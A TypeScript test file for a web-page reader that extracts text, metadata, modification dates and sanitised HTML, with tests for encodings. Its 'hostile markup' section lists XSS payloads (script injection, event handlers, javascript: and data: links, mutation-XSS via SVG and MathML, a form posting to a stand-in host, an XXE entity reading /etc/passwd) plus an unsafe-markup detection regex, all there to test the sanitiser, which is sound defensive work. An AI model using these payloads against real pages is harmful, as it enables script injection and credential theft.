import { readPage } from './read-page';

const URL = 'https://site.example/guides/desks?x=1';
const read = (html: string | Buffer, contentType = 'text/html; charset=utf-8') =>
  readPage({ body: Buffer.from(html as string), contentType, url: URL });

const PARAGRAPH = 'Standing desks by Lumen Table are quiet, says the test, and hold their height for years. '.repeat(4);
const article = (inside: string, head = ''): string =>
  `<!doctype html><html lang="en-gb"><head><title>Quiet  desks</title>${head}</head><body>
   <nav><a href="/">Home</a></nav><article><h1>Quiet desks</h1><p>${PARAGRAPH}</p>${inside}<p>${PARAGRAPH}</p></article>
   </body></html>`;

describe('what a page says', () => {
  it('says of a link whether somebody pays for it, and nothing else of what the page says of it', () => {
    const { html } = readPage({
      body: Buffer.from('<p><a href="/a" rel="me Sponsored">paid</a> <a href="/b" rel="author">free</a></p>'),
      contentType: 'text/html; charset=utf-8',
      url: 'https://site.example/',
    });
    expect([...html.matchAll(/rel="([^"]*)"/g)].map(([, rel]) => rel)).toEqual([
      'nofollow noopener noreferrer sponsored',
      'nofollow noopener noreferrer',
    ]);
  });

  it('is its text in blocks, its safe markup and what it declares', () => {
    const contents = read(
      article(
        '<ul><li>First</li><li>Second <b>bold</b> word</li></ul><p>Line<br>break &amp; <a href="../b">link</a></p>',
        `<meta name="Description" content="All about &quot;desks&quot;">
         <link rel="canonical" href="/guides/desks">`,
      ),
    );
    expect(contents).toMatchObject({
      title: 'Quiet desks',
      metaDescription: 'All about "desks"',
      language: 'en-GB',
      canonicalUrl: 'https://site.example/guides/desks',
    });
    expect(contents.text).toContain('First\n\nSecond bold word\n\nLine\nbreak & link');
    expect(contents.html).toContain('<li>Second <b>bold</b> word</li>');
    expect(contents.html).toContain('<a href="https://site.example/b" rel="nofollow noopener noreferrer">link</a>');
    expect(contents.text).not.toContain('Home');
  });

  it.each([
    ['nothing', '', null],
    ['Open Graph', '<meta property="article:modified_time" content="2026-02-01T23:30:00Z">', '2026-02-02'],
    ['a meta element', '<meta name="last-modified" content="2026-02-01">', '2026-02-01'],
    [
      'JSON-LD',
      '<script type="application/ld+json">{"dateModified": "2026-02-01", "datePublished": "2020-01-01"}</script>',
      '2026-02-01',
    ],
    ['its publication alone', '<meta property="article:published_time" content="2025-05-05">', '2025-05-05'],
    [
      'the later of two changes',
      '<meta name="dateModified" content="2025-01-01"><meta name="last-modified" content="2026-01-01">',
      '2026-01-01',
    ],
    [
      'no date',
      '<meta name="last-modified" content="yesterday"><script type="application/ld+json">{"dateModified": 7}</script>',
      null,
    ],
  ])('says when it was changed, by %s', (_, head, day) => {
    expect(read(article('', head)).modifiedOn).toBe(day);
  });

  it('is counted in words', () => {
    expect(read('<p>One, two — three. 最近は</p>')).toMatchObject({
      wordCount: 5,
      text: 'One, two — three. 最近は',
    });
  });

  it('is all of it when there is no article', () => {
    const { text, html } = read('<h1>Prices</h1><table><tr><td>Lumen</td><td>9 €</td></tr></table>');
    expect(text).toBe('Prices\n\nLumen\n\n9 €');
    expect(html).toBe('<h1>Prices</h1><table><tr><td>Lumen</td><td>9 €</td></tr></table>');
  });

  it.each([
    ['nothing', '', ''],
    ['blanks', ' \n ', ''],
    ['a bare text', 'just words', 'just words'],
    ['tags that do not close', '<b>a<i>b<p>c', 'ab\n\nc'],
    ['half a document', '<html><p>a', 'a'],
    ['a page of frames', '<frameset><frame src="a.html"></frameset>', ''],
    ['a comment', '<!-- a --><p>b</p><!--', 'b'],
  ])('is readable from %s', (_, html, text) => expect(read(html).text).toBe(text));

  it('is kept as plain text where its markup would swell, as links do that are made absolute', () => {
    const links = '<a href=x>y</a> '.repeat(10_000);
    const { html, text } = read(
      `<base href="https://site.example/${'a'.repeat(1_000)}/"><p>${links}</p><p>1 &lt; 2</p>`,
    );
    expect(text).toMatch(/^(?:y )+y\n\n1 < 2$/);
    expect(html).toBe(`<pre>${text.replace('<', '&lt;')}</pre>`);
  });

  it('is taken as it is when it is plain', () => {
    expect(read('a < b\r\n<script>x</script>', 'text/plain')).toMatchObject({
      text: 'a < b\n<script>x</script>',
      html: '<pre>a &lt; b\n&lt;script&gt;x&lt;/script&gt;</pre>',
      title: null,
    });
  });
});

describe('encodings', () => {
  const latin1 = Buffer.from('<p>Telef\xf3nica</p>', 'latin1');

  test.each([
    ['by header', latin1, 'text/html; charset="ISO-8859-1"', 'Telefónica'],
    ['by the page', Buffer.concat([Buffer.from('<meta charset=iso-8859-1>'), latin1]), 'text/html', 'Telefónica'],
    ['by nobody, and no UTF-8', latin1, 'text/html', 'Telefónica'],
    ['by a name that does not exist', Buffer.from('<p>Telefónica</p>'), 'text/html; charset=none', 'Telefónica'],
    ['by a mark', Buffer.from('\ufeff<p>Telefónica</p>', 'utf16le'), 'text/html; charset=utf-8', 'Telefónica'],
    ['Japanese', Buffer.from('8365835c836a815b', 'hex'), 'text/html; charset=shift_jis', 'テソニー'],
    ['UTF-7 is none', Buffer.from('+ADw-script+AD4-'), 'text/html; charset=utf-7', '+ADw-script+AD4-'],
    ['what no database holds', Buffer.from('a\0b&#0;c&#xD800;d'), 'text/html', 'ab\uFFFDc\uFFFDd'],
  ])('%s', (_, body, type, text) => expect(read(body, type).text).toBe(text));
});

/** Whatever a browser could run, load, submit or be led by. */
const UNSAFE =
  /<\/?(?:script|style|iframe|frame|object|embed|form|input|button|textarea|select|svg|math|meta|link|base|img|video|audio|source|track|template|noscript|body|html)\b|<[^>]*\s(?:on\w+|style|src|srcset|ping|formaction|action|background|poster|xlink:href|id|class|name)\s*=|<[^>]*(?:javascript|vbscript|data):/i;

describe('hostile markup', () => {
  const corpus: [string, string][] = [
    ['a script', '<script>alert(1)</script>'],
    ['a script in capitals, unclosed', '<SCRIPT SRC=//evil.test/x.js'],
    ['a script in a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['a script in a comment end', '<!--><script>alert(1)</script>-->'],
    ['an event handler', '<p onclick="alert(1)" onmouseover=alert(1)>x</p>'],
    ['a handler behind a slash', '<img/src=x/onerror=alert(1)>'],
    ['a handler behind a quote', '<img src="x"onerror="alert(1)">'],
    ['a handler on the body', '<body onload=alert(1)>x'],
    ['a javascript: link', '<a href="javascript:alert(1)">x</a>'],
    ['a javascript: link in pieces', '<a href=" jav&#x09;ascript&colon;alert(1)">x</a>'],
    [
      'a javascript: link in entities',
      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    ],
    ['a vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
    ['a data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
    ['a data: image', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
    ['a tracking image', '<img src="https://evil.test/pixel.gif" srcset="https://evil.test/2x.gif 2x">'],
    ['a ping', '<a href="https://ok.test/" ping="https://evil.test/">x</a>'],
    ['a base', '<base href="javascript:alert(1)//"><a href="x">x</a>'],
    ['a refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
    ['a style sheet', '<style>@import "https://evil.test/x.css"</style><link rel=stylesheet href=//evil.test/x.css>'],
    ['a style', '<p style="background:url(https://evil.test/)">x</p>'],
    [
      'a form',
      '<form action="https://evil.test/"><input name=password><button formaction=javascript:alert(1)>go</button></form>',
    ],
    ['a frame', '<iframe srcdoc="<script>alert(1)</script>" src="javascript:alert(1)"></iframe>'],
    ['an object', '<object data="data:text/html,x"><embed src="x.swf"></object>'],
    [
      'SVG',
      '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    ],
    ['SVG that changes hands', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
    [
      'MathML that changes hands',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    ],
    ['noscript that changes hands', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
    ['a text area that changes hands', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
    ['escaped markup', '&lt;script&gt;alert(1)&lt;/script&gt;'],
    ['twice escaped markup', '&amp;lt;img src=x onerror=alert(1)&amp;gt;'],
    ['a template', '<template><script>alert(1)</script></template>'],
    ['a video', '<video src="https://evil.test/v"><source src="x"><track src="y"></video><audio autoplay src=z>'],
    ['clobbering names', '<a id="body" name="cookie" class="admin">x</a>'],
    [
      'a doctype and instructions',
      '<?xml-stylesheet href="javascript:alert(1)"?><!ENTITY x SYSTEM "file:///etc/passwd">&x;',
    ],
    ['an attribute of lies', '<a title="><script>alert(1)</script>" href=https://ok.test/>x</a>'],
    ['a NUL inside', '<scr\0ipt>alert(1)</scr\0ipt><img src=x on\0error=alert(1)>'],
  ];

  const everything = article(corpus.map(([, markup]) => `<p>${markup}</p>`).join(''));
  it.each([...corpus, ['all of it', everything] as const])('comes out safe: %s', (_, markup) => {
    const { html } = read(markup);
    expect(html).not.toMatch(UNSAFE);
    expect(linksOf(html).filter((url) => !isWebUrl(url))).toEqual([]);
  });

  it('keeps the text around it, and nothing of what it runs', () => {
    const { text } = read(
      article(
        corpus
          .filter(([name]) => !/unclosed|changes/.test(name))
          .map(([, markup]) => `<p>${markup}</p>`)
          .join(''),
      ),
    );
    expect(text.endsWith(PARAGRAPH.trim())).toBe(true);
    expect(text).not.toMatch(/@import|PHNjcmlwd/);
  });
});

const linksOf = (html: string): string[] => [...html.matchAll(/\shref="([^"]*)"/g)].map(([, url]) => url!);
const isWebUrl = (url: string): boolean => /^(?:https?:\/\/|mailto:)/.test(url);
